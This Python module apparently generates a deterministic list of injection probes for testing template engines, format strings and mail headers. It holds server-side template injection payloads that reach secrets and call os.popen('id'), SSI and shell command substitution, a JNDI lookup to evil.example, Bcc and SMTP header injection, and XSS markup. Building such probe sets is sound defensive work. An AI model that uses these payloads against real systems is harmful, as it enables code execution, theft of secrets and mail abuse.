"""500 payloads by rule: what template engines, format strings and mail headers would run, in every disguise."""

import itertools

# Each shows by its result that something was evaluated; ANSWER never stands in a payload itself.
ANSWER = "1787569"  # 1337 × 1337
SUMS = ["1337*1337", "1337 | times: 1337", "1337|multiply(1337)", "'1337'|int*1337", "(1337)*(1337)"]
PATHS = [
    "settings.SECRET_KEY",
    "request",
    "self",
    "config",
    "config.items()",
    "__class__",
    "''.__class__",
    "().__class__",
    "''.__class__.__mro__[1].__subclasses__()",
    "[].__class__.__base__",
    "name.__class__",
    "company.__init__.__globals__",
    "cycler.__init__.__globals__.os.popen('id')",
    "lipsum.__globals__['os']",
    "request.application.__globals__",
    "_self.env.registerUndefinedFilterCallback('exec')",
    "app.request.server.all|join(',')",
    "dump(app)",
    "constant('X')",
    ".Env.SECRET_KEY",
    '. | printf "%v"',
    "template",
    "context",
    "forloop",
    "site.pages",
    "messages.storages.0.signer.key",
    "user.password",
    "installation.sender_name",
    "offer.campaign",
    "campaign.segment",
    "step.body",
    "row",
    "values",
    "company.name",
    "company[0]",
    "company.size",
    "company.first",
    "addressee.last",
    "coupon.offer.code_prefix",
]
PRINTS = ["{{ %s }}", "{{%s}}", "{{- %s -}}", "{{ %s | safe }}", "{{ %s | default: 1 }}"]
OTHERS = [
    "${ %s }",
    "#{ %s }",
    "<%%= %s %%>",
    "{%%= %s %%}",
    "[[${ %s }]]",
    "@(%s)",
    "*{ %s }",
    "{{{ %s }}}",
    "$!{ %s }",
]
TAGS = [
    "{% for i in (1..9) %}1787569{% endfor %}",
    "{% include 'settings' %}",
    "{% render 'x' %}",
    "{% load static %}",
    "{% debug %}",
    "{% csrf_token %}",
    "{% assign a = 1 %}{{ a }}",
    "{% capture a %}x{% endcapture %}{{ a }}",
    "{% raw %}{{ company }}{% endraw %}",
    "{% cycle 'a', 'b' %}",
    "{% tablerow i in (1..9) %}{% endtablerow %}",
    "{% increment a %}",
    "{% liquid echo 1 %}",
    "{% extends 'base.html' %}",
    "{% ssi '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% set a = 1 %}",
    "{% macro a() %}{% endmacro %}",
    "{% with a=1 %}{% endwith %}",
    "{% autoescape off %}{{ company }}{% endautoescape %}",
    "{% filter upper %}x{% endfilter %}",
    "{% url 'x' %}",
    "{% sandbox %}{% endsandbox %}",
    "{% php %}phpinfo();{% endphp %}",
    "{% if company.__class__ %}1787569{% endif %}",
    "{% if settings %}1787569{% endif %}",
    "{% unless x.y %}1787569{% endunless %}",
    "{% echo 1 %}",
    "{% layout 'x' %}",
]
FORMATS = [
    "%(secret)s",
    "%s%s%s%n",
    "{0.__class__}",
    "{settings.SECRET_KEY}",
    "{company.__init__.__globals__}",
    "%x%x%x",
    "{0!r:>1787}",
    "$(id)",
    "`id`",
    "${jndi:ldap://evil.example/a}",
    '<!--#exec cmd="id"-->',
    "<?php echo 1337*1337 ?>",
]
HEADERS = [
    f"x{end}{header}"
    for end in ("\r\n", "\n", "\r", "\u2028", "\x0b", "\x00", "%0d%0a", "\u0085")
    for header in (
        "Bcc: evil@evil.example",
        "Subject: x",
        "Content-Type: text/html\r\n\r\n<b>x</b>",
        "\r\n.\r\nMAIL FROM:<a@b.jp>",
    )
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "[x](https://evil.example)",
    "[x](javascript:alert(1))",
    "**<b>**",
    "</title><script>",
    "<a href=//evil.example>",
    "' onmouseover='alert(1)",
    "&lt;script&gt;",
    "<style>*{display:none}</style>",
    "<!--",
    "]]>",
    "zq0qz",
    "zq1qz zq99qz",
    "\x000\x00",
    "\x001\x00",
    "{{ company__url }}",
    "{{ click_1 }}",
    "{{ open_url }}",
    "<o:p>",
    "<mj-raw>",
    "<![endif]-->",
]


def payloads() -> list[str]:
    """At least 500, all different, always the same."""
    made = [shape % inner for shape, inner in itertools.product(PRINTS + OTHERS, PATHS + SUMS)]
    made += TAGS + FORMATS + HEADERS + MARKUP
    return list(dict.fromkeys(made))
